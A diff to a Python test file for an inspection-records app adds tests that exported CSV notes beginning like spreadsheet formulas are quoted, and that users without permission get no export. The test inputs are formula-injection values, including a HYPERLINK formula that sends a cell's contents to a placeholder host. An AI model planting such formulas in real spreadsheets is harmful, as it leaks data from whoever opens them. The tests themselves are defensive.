@@ -1,5 +1,6 @@
 """B44–B62: texts that are long, empty, odd or made to do harm are kept as they came and shown harmlessly."""
 
+import csv
 import io
 import logging
 
@@ -95,6 +96,29 @@ async def test_b47_to_b60_a_note_is_kept_as_typed_shown_harmlessly_and_stays_tex
     assert note.replace("\u202e", "").replace("\u202c", "") in await talk.last()
     with talk.drive.database.reading() as session:
         assert session.execute(sql("SELECT count(*) FROM checks")).scalar_one() == before + 1
+
+
+@pytest.mark.parametrize("note", ["+1", "-1+1", "@SUM(1)", '=HYPERLINK("http://x?"&A1)', "\t=1", "\r=1", "＋1"])
+async def test_b54_in_a_table_of_text_what_would_be_a_formula_is_quoted(talk: Wild, note: str) -> None:
+    """Asked for in words; written as the record has it, whatever was typed."""
+    check = await _handed_in_with(talk, "x")
+    with talk.drive.database.writing() as session:  # a note that begins so by way of an import, or of older rules
+        session.get_one(Check, check.id).note = note
+    await talk.do("办公室", "send_text", text="导出CSV 厕所 8月")
+    name, content = await talk.newest_file()
+    assert name == "厕所革命_2018-08_检查.csv"
+    assert content.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+    assert rows[1][rows[0].index("备注")] == "'" + note.replace("\r", "\n")
+    assert rows[1][rows[0].index("点位")] == SITE
+
+
+async def test_b54_who_may_not_export_gets_no_table_either(either: Wild) -> None:
+    await _handed_in_with(either, "+1")
+    await either.says("export csv 8月")
+    assert await either.last() == either.text("export.not_allowed")
+    assert await either.taps(CHEN, "v1:csv:1:2018:8:0") == either.text("export.not_allowed")
+    assert [m for m in await either.messages(CHEN) if m["kind"] == "document"] == []
 
 
 async def test_b47_right_to_left_is_isolated_and_piles_of_signs_are_trimmed(talk: Wild) -> None:
